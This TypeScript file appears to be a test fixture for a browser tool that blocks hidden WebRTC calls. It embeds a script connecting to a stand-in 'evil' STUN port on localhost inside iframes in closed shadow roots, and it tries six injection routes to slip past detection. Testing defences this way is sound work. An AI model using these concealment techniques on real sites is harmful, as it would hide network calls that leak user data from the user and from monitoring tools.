/** An app that makes frames out of sight, and sends something from there. */
declare const evil: { readonly udp: number }
const sending = `<script>
  const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${evil.udp}' }] })
  call.createDataChannel('x')
  call.createOffer().then((offer) => call.setLocalDescription(offer))
</script>`
const frame = `<iframe srcdoc="${sending.replaceAll('"', '&quot;')}"></iframe>`
const hidden = `<div><template shadow${'rootmode'}="closed">${frame}</template></div>`
const host = () => document.body.appendChild(document.createElement('div'))
const ways: (() => void)[] = [
  () => host().setHTMLUnsafe(hidden),
  () => document.body.append(Document.parseHTMLUnsafe(hidden).body.firstElementChild as Element),
  () => document.write(hidden),
  () => {
    host().attachShadow({ mode: 'closed' }).innerHTML = frame
  },
  () => {
    const first = document.createElement('div')
    first.attachShadow({ mode: 'closed', clonable: true }).innerHTML = frame
    document.body.append(first.cloneNode(true))
  },
  () => {
    host().innerHTML = `<svg><foreignObject>${frame}</foreignObject></svg>`
  },
]
for (const way of ways) {
  try {
    way()
  } catch {
    // the next way may be open
  }
}
setTimeout(() => Object.assign(window, { report: {} }), 700)

export {}
